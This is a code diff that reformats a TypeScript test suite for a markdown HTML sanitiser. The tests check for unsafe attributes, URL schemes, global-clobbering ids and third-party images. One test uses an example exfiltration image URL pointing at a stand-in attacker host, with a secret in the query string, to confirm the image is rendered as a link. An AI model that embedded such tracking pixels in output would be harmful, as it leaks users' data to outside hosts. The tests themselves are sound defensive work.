@@ -37,8 +37,37 @@ function tagsOf(html: string): Tag[] {
 }
 
 const allowedTags = new Set([
-  'div', 'p', 'a', 'img', 'span', 'code', 'pre', 'em', 'strong', 'del', 'blockquote', 'ul', 'ol', 'li', 'input',
-  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br', 'sup', 'section', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
+  'div',
+  'p',
+  'a',
+  'img',
+  'span',
+  'code',
+  'pre',
+  'em',
+  'strong',
+  'del',
+  'blockquote',
+  'ul',
+  'ol',
+  'li',
+  'input',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'hr',
+  'br',
+  'sup',
+  'section',
+  'h1',
+  'h2',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
 ]);
 
 const safeUrl = /^(?:https?:\/\/|mailto:|#|\/(?![/\\])|[^:/?#]*(?:[/?#]|$))/i;
@@ -53,8 +82,10 @@ function problemsIn(html: string): string[] {
       if (['srcdoc', 'formaction', 'action', 'xlink:href', 'name', 'srcset'].includes(name) && tag.name !== 'img') {
         problems.push(`<${tag.name} ${name}> is not allowed`);
       }
-      if (name === 'style' && !/^text-align:(left|right|center)$/.test(value)) problems.push(`<${tag.name} style="${value}">`);
-      if (name === 'id' && !value.startsWith('md-')) problems.push(`<${tag.name} id="${value}"> could clobber a global`);
+      if (name === 'style' && !/^text-align:(left|right|center)$/.test(value))
+        problems.push(`<${tag.name} style="${value}">`);
+      if (name === 'id' && !value.startsWith('md-'))
+        problems.push(`<${tag.name} id="${value}"> could clobber a global`);
       if (name === 'href' || name === 'src') {
         // Browsers ignore tabs, newlines and leading control characters inside a scheme.
         const compact = value.replace(/[\u0000-\u0020]/g, '');
@@ -62,7 +93,12 @@ function problemsIn(html: string): string[] {
           problems.push(`<${tag.name} ${name}="${value}"> is not a safe URL`);
         }
       }
-      if (name === 'src' && tag.name === 'img' && /^(https?:)?\/\//i.test(value) && !value.startsWith('https://tenderscope.eu/')) {
+      if (
+        name === 'src' &&
+        tag.name === 'img' &&
+        /^(https?:)?\/\//i.test(value) &&
+        !value.startsWith('https://tenderscope.eu/')
+      ) {
         problems.push(`<img src="${value}"> would load a third-party image`);
       }
     }
@@ -166,7 +202,8 @@ describe('markdown sanitising', () => {
       expect(html).toContain('Before the payload.');
       // CommonMark lets an unclosed <script>, <pre>, <style> or <textarea> block run to the end of
       // the document, so only then may the text after it disappear (it is dropped, never run).
-      const swallowsRest = /<(script|pre|style|textarea)[\s>]/i.test(payload) && !/<\/(script|pre|style|textarea)>/i.test(payload);
+      const swallowsRest =
+        /<(script|pre|style|textarea)[\s>]/i.test(payload) && !/<\/(script|pre|style|textarea)>/i.test(payload);
       if (!swallowsRest) expect(html).toContain('After the payload.');
     });
   }
@@ -180,6 +217,8 @@ describe('markdown sanitising', () => {
   it('turns a third-party image into a link instead of loading it', () => {
     const html = render('![chart](https://evil.example/pixel.png?leak=secret)');
     expect(html).not.toContain('<img');
-    expect(html).toContain('<a href="https://evil.example/pixel.png?leak=secret" rel="noopener noreferrer">Image: chart</a>');
+    expect(html).toContain(
+      '<a href="https://evil.example/pixel.png?leak=secret" rel="noopener noreferrer">Image: chart</a>',
+    );
   });
 });
